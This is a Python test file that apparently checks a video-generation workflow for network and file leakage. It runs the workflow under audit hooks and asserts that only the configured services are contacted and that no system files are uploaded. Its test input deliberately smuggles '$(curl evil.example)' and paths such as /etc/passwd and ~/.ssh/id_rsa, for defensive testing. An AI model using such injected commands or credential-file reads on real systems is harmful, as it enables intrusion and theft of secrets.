"""A whole run, step 1 to the video, in a process that notes every name it asks for and every address it connects to."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.hostile.faulty_server import FaultyServer
from tests.jobs.load.workers import environment
from tests.providers.asking import SERVICES
from tests.providers.fake_services import FakeServices

# Texts that look like files, addresses and commands; and an environment that points elsewhere.
WISH = "http://127.0.0.1:1/a.png file:///etc/passwd /etc/passwd ~/.ssh/id_rsa $(curl evil.example) A cat sits."
ELSEWHERE = "http://127.0.0.1:2"
MISLEADING = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "all_proxy"), ELSEWHERE)
MISLEADING |= {"GOOGLE_GEMINI_BASE_URL": ELSEWHERE, "DASHSCOPE_HTTP_BASE_URL": ELSEWHERE, "OPENAI_LOG": "debug"}
# The module platform of Python's own asks these two what kind of machine it is, for the SDKs.
# The last is asked by trio, which comes with what only the tests install.
OF_PYTHON = {"a program: file", "a program: uname", "a program: /sbin/ldconfig"}
NOTED = """
import json, sys
met = set()
def note(event, args):
    if event == "socket.connect" and isinstance(args[1], tuple):
        met.add(f"{args[1][0]}:{args[1][1]}")
    elif event == "socket.getaddrinfo":
        met.add(f"{args[0]}:{args[1]}")
    elif event in ("subprocess.Popen", "os.system", "os.exec"):
        met.add(f"a program: {args[0]}")
sys.addaudithook(note)
import workflow
sys.argv = ["workflow.py", *json.loads(sys.argv[1])]
try:
    workflow.main()
finally:
    print("\\nmet " + json.dumps(sorted(met)))
"""


@pytest.mark.parametrize("service", ["gemini", *(pytest.param(one, marks=pytest.mark.long) for one in SERVICES[1:])])
def test_only_what_is_configured_is_spoken_to(service: str, tmp_path: Path) -> None:
    with FakeServices() as services, FaultyServer(seconds=0.05) as server:
        variables = environment(tmp_path / "outputs", [server]) | services.environment(service)
        arguments = ["full", "--description", WISH, "--num-frames", "17", "--num-inference-steps", "4", "--json"]
        done = subprocess.run(
            [sys.executable, "-c", NOTED, json.dumps(arguments)],
            cwd=REPO,
            env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), **MISLEADING, **variables},
            capture_output=True,
            text=True,
            timeout=120,
        )
        ours = {url.removeprefix("http://") for url in (services.url, server.url)}
    result, met = done.stdout.rsplit("\nmet ", 1)
    assert json.loads(result.strip().splitlines()[-1])["state"] == "completed", done.stderr[-2000:]
    assert set(json.loads(met)) - OF_PYTHON == ours
    assert services.count("unknown") == 0
    for call in services.received():
        assert "root:" not in json.dumps(call.body)
    pictures = [picture for call in services.received() for picture in call.pictures]
    assert len(pictures) == 1  # the frame that step 3 looks at; nothing else was uploaded
    assert [sent.fields["prompt"] != "" for sent in server.accepted] == [True]
